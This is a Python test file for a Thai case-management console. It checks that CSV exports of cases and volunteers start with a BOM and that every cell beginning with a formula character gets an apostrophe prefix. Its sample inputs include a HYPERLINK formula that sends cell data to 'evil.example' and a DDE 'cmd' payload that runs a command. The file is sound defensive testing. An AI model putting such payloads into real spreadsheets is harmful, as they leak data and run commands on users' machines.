"""CSV exports open safely and readably in a spreadsheet: no cell is ever a formula, Thai shows correctly."""

from __future__ import annotations

import csv
import io

from tests.console.conftest import login, make_staff
from tests.factories import console_case


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"คลิก")', "+66 ถนนพัง", "-1+1", "@SUM(A1:A9)", "\tซ่อน",
            "\rบรรทัด", "=cmd|' /C calc'!A0"]


def test_exported_cells_are_never_formulas_and_the_file_starts_with_a_bom(console, services):
    for text in FORMULAS:
        console_case(services, agency_id="bma", description=text, phone=None)
    make_staff(services, "admin", "administrator")
    client = console.test_client()
    login(client, "admin")
    response = client.get("/console/cases.csv")
    assert response.data.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True)[1:], newline="")))
    assert sorted(r["description"] for r in rows) == sorted("'" + text for text in FORMULAS)
    assert all(not r[column].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for column in r)


def test_a_volunteers_own_words_are_exported_as_text(console, services):
    from storage import people
    from storage.models import Volunteer

    with services.transaction() as db:
        citizen = people.touch_citizen(db, "U" + "5" * 32)
        db.add(Volunteer(citizen_id=citizen.id, name="=1+2", phone="+66800000000", province="@เชียงใหม่",
                         skills="-ปฐมพยาบาล", availability="weekend", consent_version="1"))
    make_staff(services, "admin", "administrator")
    client = console.test_client()
    login(client, "admin")
    body = client.get("/console/volunteers.csv").get_data(as_text=True)
    assert body.startswith("\ufeffname,")
    [row] = list(csv.DictReader(io.StringIO(body[1:])))
    assert (row["name"], row["phone"], row["province"], row["skills"]) == (
        "'=1+2", "'+66800000000", "'@เชียงใหม่", "'-ปฐมพยาบาล")

